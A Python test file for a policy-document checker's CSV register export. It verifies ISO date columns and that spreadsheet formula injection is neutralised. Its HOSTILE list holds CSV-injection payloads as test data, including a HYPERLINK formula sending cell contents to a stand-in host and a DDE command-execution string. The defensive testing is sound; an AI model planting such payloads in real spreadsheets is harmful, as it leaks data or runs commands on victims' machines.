"""The CSV register: ISO date columns beside the dates as written, and no cell a formula.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in
some, a tab or a carriage return first) as a formula; titles, school names and
file names come from documents anyone could have written.
"""

from __future__ import annotations

import csv
import io
import subprocess
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from policykit.dates import parse_date
from policykit.records import CheckReport, DocumentReport, Finding
from policykit.registry import Registry
from policykit.reports import ReportOptions, render
from policykit.reports.csv import COLUMNS

from .conftest import need_tool
from .edit_helpers import SOFFICE_TIMEOUT
from .trustshare import AS_OF

# What a spreadsheet takes for the start of a formula (OWASP's CSV injection list, and
# the full-width forms East Asian Excel accepts too).
FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Open")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
]
REGISTRY = Registry.with_builtins()
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"


def register(report: CheckReport) -> list[dict[str, str]]:
    text = render("csv", report, ReportOptions(REGISTRY))
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def document(text: str, approved: str | None = "September 2025") -> DocumentReport:
    return DocumentReport(
        path=f"{text}/{text}.docx",
        kind="community-cohesion",
        title=text,
        school=text,
        approved=parse_date(approved) if approved else None,
        review_due=parse_date("Autumn 2026"),
        status="due-soon",
        findings=[Finding("PK402", "placeholder-text", "warning", text, None, 3)],
    )


def test_iso_date_columns_are_added_after_the_old_ones() -> None:
    rows = register(CheckReport(AS_OF, [document("Oak"), document("Elm", approved=None)]))
    assert list(rows[0])[:13] == [
        *("path", "school", "title", "kind", "approved", "review_due", "review_due_by"),
        *("status", "errors", "warnings", "info", "codes", "error"),
    ]
    first = rows[0]
    assert first["approved"] == "September 2025"
    assert (first["approved_start"], first["approved_end"]) == ("2025-09-01", "2025-09-30")
    assert first["review_due"] == "Autumn 2026"
    assert (first["review_due_start"], first["review_due_end"]) == ("2026-09-01", "2026-12-31")
    assert first["review_due_by"] == first["review_due_end"]
    assert rows[1]["approved_start"] == rows[1]["approved_end"] == ""
    assert list(rows[0]) == list(COLUMNS)


def test_no_cell_built_from_hostile_titles_is_a_formula() -> None:
    rows = register(CheckReport(AS_OF, [document(text) for text in HOSTILE]))
    assert len(rows) == len(HOSTILE)
    for row, text in zip(rows, HOSTILE, strict=True):
        for value in row.values():
            assert not value.startswith(FORMULA), value
        assert row["title"] == "'" + text  # kept whole, quoted
        assert row["school"] == "'" + text
        assert row["path"] == f"'{text}/{text}.docx"


@settings(max_examples=200, deadline=None)
@given(st.text(min_size=1, max_size=40))
def test_no_cell_starts_a_formula_whatever_the_title(text: str) -> None:
    for row in register(CheckReport(AS_OF, [document(text)])):
        for value in row.values():
            assert not value.startswith(FORMULA), value


@pytest.mark.slow
def test_libreoffice_opens_the_register_with_no_formula_and_iso_dates_as_dates(
    tmp_path: Path,
) -> None:
    soffice = need_tool("soffice")
    source = tmp_path / "register.csv"
    report = CheckReport(AS_OF, [document(t) for t in HOSTILE])
    source.write_bytes(render("csv", report, ReportOptions(REGISTRY)).encode("utf-8"))
    out = tmp_path / "lo"
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            *("--headless", "--norestore", "--infilter=CSV:44,34,76,1"),
            *("--convert-to", "fods", "--outdir", str(out), str(source)),
        ],
        check=True,
        capture_output=True,
        timeout=SOFFICE_TIMEOUT,
    )
    parser = etree.XMLParser(resolve_entities=False, no_network=True, huge_tree=True)
    root = etree.parse(str(out / "register.fods"), parser).getroot()
    cells = list(root.iter(f"{{{TABLE}}}table-cell"))
    assert not [c for c in cells if c.get(f"{{{TABLE}}}formula")]
    texts = {"".join(c.itertext()).strip() for c in cells}
    for text in HOSTILE:
        assert "'" + text.strip() in texts, text  # shown as written, never run
    rows = list(root.iter(f"{{{TABLE}}}table-row"))
    header = ["".join(c.itertext()).strip() for c in rows[0].iter(f"{{{TABLE}}}table-cell")]
    assert header[0] == "path"  # UTF-8, the byte-order mark understood
    column = header.index("approved_start")
    first = [
        cell
        for cell in rows[1].iter(f"{{{TABLE}}}table-cell")
        for _ in range(min(int(cell.get(f"{{{TABLE}}}number-columns-repeated", "1")), 64))
    ]
    assert first[column].get(f"{{{OFFICE}}}value-type") == "date"
    assert first[column].get(f"{{{OFFICE}}}date-value", "").startswith("2025-09-01")
